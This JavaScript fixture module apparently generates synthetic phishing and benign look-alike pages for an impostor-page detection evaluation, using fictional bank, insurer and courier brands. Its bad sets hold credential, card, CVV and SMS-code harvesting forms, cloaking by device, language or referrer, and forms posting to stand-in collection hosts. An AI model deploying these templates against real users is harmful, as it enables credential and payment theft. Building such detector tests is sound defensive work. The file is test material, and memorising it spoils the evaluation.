// Pages for eval/impostors/pages.mjs, written for it: two authors' habits (A tidy, B hurried kits), French and English. `style` B is
// looked at only in the end. Each page: {group, style, bad, brand, routes}: routes by path give [status, headers, html]; '/' is asked.
// Nothing here is copied from a real page.

const brands = [
  ['Banque Méridien', 'meridien'], ['Azuria Assurances', 'azuria'], ['Colis Express', 'colisexpress'], ['Fontval', 'fontval'],
  ['Nordia Mutuelle', 'nordia'], ['Lumio Mobile', 'lumio'], ['Castelnau Énergie', 'castelnau'], ['Brightwater Bank', 'brightwater'],
]
const html = (title, body, head = '', lang = 'fr') =>
  `<!doctype html><html lang="${lang}"><head><meta charset="utf-8"><title>${title}</title>${head}</head><body>${body}</body></html>`
const ok = (page) => [200, { 'content-type': 'text/html; charset=utf-8' }, page]
const away = (to) => [302, { location: to }, '']
const one = (page) => ({ '/': () => ok(page) })
const phone = (request) => /iPhone|Android/.test(request.headers['user-agent'] ?? '')
const french = (request) => /^fr/.test(request.headers['accept-language'] ?? '')
const fromNetwork = (request) => /facebook/.test(request.headers.referer ?? '')

// -- bad, style A
const badA = {
  'login copy': ([name]) => one(html(`${name} – Espace client`, `<h1>${name}</h1><p>Connectez-vous à votre espace sécurisé.</p><form method="post" action="valider.php"><input name="identifiant" placeholder="Identifiant"><input type="password" name="mdp"><button>Se connecter</button></form><footer>© ${name}</footer>`)),
  'card for a parcel': ([name]) => one(html(`Suivi de votre colis`, `<header>${name}</header><p>Votre colis est retenu. Réglez 1,99 € de frais avec ${name}.</p><form method="post" action="/paiement"><input name="nom"><input name="cardnumber" placeholder="Numéro de carte"><input name="exp"><input name="cvv" placeholder="CVV"></form><p>${name} vous remercie.</p>`)),
  'refund with one-time code': ([name]) => one(html(`${name} : remboursement`, `<p>${name} vous rembourse 84,12 €. Saisissez le code reçu par SMS.</p><form method="post"><input name="otp" placeholder="Code SMS"><input name="cardnumber"></form>`)),
  'form that posts elsewhere': ([name]) => one(html(`Authentification ${name}`, `<form method="post" action="https://collecte-donnees.test/p.php"><input name="user"><input type="password" name="pass"></form>`)),
  'redirect chain': ([name]) => ({ '/': () => away('/s'), '/s': () => ok('<meta http-equiv="refresh" content="0;url=/t">'), '/t': () => ok(html(`${name} – Connexion`, `<form method="post"><input name="id"><input type="password" name="code"></form><p>Bienvenue chez ${name}</p>`)) }),
  'telephone only': ([name]) => ({ '/': (q) => phone(q) ? ok(html(`${name}`, `<p>${name} : confirmez votre compte</p><input type="tel" name="tel"><input type="password" name="pin">`)) : [404, {}, 'Not found'] }),
  'French only': ([name]) => ({ '/': (q) => french(q) ? ok(html(`${name} sécurité`, `<form method="post"><input name="email"><input type="password" name="pwd"></form>`)) : away('https://example.com/') }),
  'from a network only': ([name]) => ({ '/': (q) => fromNetwork(q) ? ok(html(`Cadeau ${name}`, `<p>${name} vous offre 50 %.</p><form method="post"><input name="nom"><input name="adresse"><input name="telephone"><input name="cardnumber"><input name="cvc"></form>`)) : ok(html('Blog', '<p>Recettes de saison et jardin.</p>')) }),
}
// -- bad, style B: kits in a hurry
const badB = {
  'kit with borrowed style': ([name, key]) => one(`<html><head><title>LOGIN</title><link rel=stylesheet href="https://www.${key}.example/css/main.css"><link rel="shortcut icon" href="https://www.${key}.example/favicon.ico"></head><body><img src="https://www.${key}.example/logo.png"><form action=next.php method=post><input type=text name=u><input type=password name=p><input type=submit></form></body></html>`),
  'kit in English': ([name]) => one(`<title>${name} Online Banking - Sign in</title><div class=c><h3>Verify your ${name} account</h3><form action="./post.php" method=POST><input id=userid placeholder="User ID"><input id=passwd type=password><label>Remember me</label></form></div>`),
  'loose fields for a script': ([name]) => one(`<title>${name} | Vérification</title><p>Vérification de sécurité ${name}</p><input id="nom"><input id="password1" type="text" placeholder="Mot de passe"><button onclick="go()">OK</button><script>function go(){fetch('/x')}</script>`),
  'script redirect': ([name]) => ({ '/': () => ok(`<script>var x=1;top.location.href='/go'+'/2.html'</script>`), '/go/2.html': () => ok(`<TITLE>${name} - mise a jour</TITLE><FORM METHOD=POST><INPUT NAME=email><INPUT TYPE=PASSWORD NAME=pw></FORM>`) }),
  'steps with identity first': ([name]) => one(`<title>${name} - Etape 1/3</title><b>Service client ${name}</b><form method=post action=step2><input name=nom><input name=prenom><input name=datenaissance><input name=telephone><input name=email></form>`),
  'premium card update': ([name]) => one(`<title>Billing</title><h2>Your ${name} payment failed</h2><p>Update your card to keep ${name}.</p><form method=post><input autocomplete=cc-number name=a><input autocomplete=cc-csc name=b></form>`),
  'code after card': ([name]) => one(`<title>3D Secure</title><p>${name} - ${name} Secure</p><form method=post><input name=smscode placeholder="SMS code"></form>`),
  'title hidden in spaces': ([name]) => one(`<title>   ${name.toUpperCase()}   </title><p>Session expirée</p><form method=post action="//evil-panel.test/a"><input name=login><input name=motdepasse type=text></form>`),
}
// -- good, style A
const goodA = {
  'press about fraud': ([name]) => one(html(`${name} : attention aux faux SMS – Le Journal local`, `<article><p>Des clients de ${name} ont reçu de faux messages. La banque met en garde : ne donnez jamais votre mot de passe.</p></article><form method="post" action="/newsletter"><input type="email" name="email"></form>`)),
  'shop with its own account': ([name]) => one(html(`Boutique Dupré – Mon compte`, `<h1>Boutique Dupré</h1><p>Nous vendons les produits ${name}. Identifiez-vous.</p><form method="post"><input name="email"><input type="password" name="mdp"></form>`)),
  'forum': ([name]) => one(html(`Forum des consommateurs – Connexion`, `<h1>Forum des consommateurs</h1><form method="post"><input name="pseudo"><input type="password" name="pass"></form><ul><li>Que pensez-vous de ${name} ?</li><li>${name} : délai de remboursement</li></ul>`)),
  'price comparison': ([name]) => one(html(`Comparatif 2026 : quelle assurance choisir ?`, `<table><tr><td>${name}</td><td>12 €</td></tr><tr><td>Autre maison</td><td>11 €</td></tr></table><p>Avis sur ${name}</p>`)),
  'job board': ([name]) => one(html(`Offres d’emploi ${name}`, `<p>${name} recrute un conseiller à Nantes.</p><form method="get" action="/recherche"><input name="q"><input name="ville"></form>`)),
  'login of nobody we know': () => one(html(`Connexion`, `<h1>Intranet</h1><form method="post"><input name="login"><input type="password" name="password"></form>`)),
  'customer review': ([name]) => one(html(`Avis sur ${name}`, `<p>Service client injoignable, je quitte ${name}.</p><form method="post" action="/avis"><input name="pseudo"><textarea name="avis"></textarea></form>`)),
  'not found': ([name]) => ({ '/': () => [404, { 'content-type': 'text/html' }, html(`Page introuvable`, `<p>${name}</p>`)] }),
}
// -- good, style B
const goodB = {
  'parked domain': () => one(`<title>this domain is for sale</title><p>Buy this domain. Related: bank, login, insurance</p>`),
  'club with a member area': ([name]) => one(`<title>Cyclo Club Vannes - espace membres</title><h1>Cyclo Club Vannes</h1><p>Partenaire : ${name}</p><form method=post><input name=user><input type=password name=pw></form>`),
  'sign in with a network': () => one(`<title>Lecteur - Abonnez-vous</title><a href="https://accounts.google.com/x">Continuer avec Google</a><form method=post><input type=email name=e><input type=password name=p></form>`),
  'insurance broker': ([name]) => one(`<title>Cabinet Leroux, courtier</title><h1>Cabinet Leroux</h1><p>Contrats ${name} et autres. Demandez un devis.</p><form method=post action=/devis><input name=nom><input name=email><input name=telephone></form>`),
  'blog on free hosting': ([name]) => one(`<title>Mon blog budget</title><p>J'ai testé ${name} pendant un an. Bilan : correct.</p>`),
  'municipal page': ([name]) => one(`<title>Mairie de Saint-Rémy - alerte démarchage</title><p>Vigilance : de faux agents ${name} démarchent à domicile.</p>`),
  'own cards shop': () => one(`<title>Librairie Aubépine - Paiement</title><h1>Librairie Aubépine</h1><form method=post><input name=cardnumber><input name=cvc></form>`),
  'event ticketing': ([name]) => one(`<title>Festival des Quais 2026 - billets</title><p>Avec le soutien de ${name}.</p><form method=post><input name=nom><input name=email><input name=cardnumber></form>`),
}

export function pages() {
  const out = []
  const take = (set, bad, style) => {
    for (const [group, make] of Object.entries(set)) {
      for (const brand of brands) out.push({ group, style, bad, brand: brand[0], routes: make(brand) })
    }
  }
  take(badA, true, 'A')
  take(badB, true, 'B')
  take(goodA, false, 'A')
  take(goodB, false, 'B')
  return out
}
export const register = `organisation: {name: Evaluation, common_word: true}\nbrands:\n${brands.map(([name, key]) => `  - {name: ${name}, domains: [${key}.example]}`).join('\n')}\n`
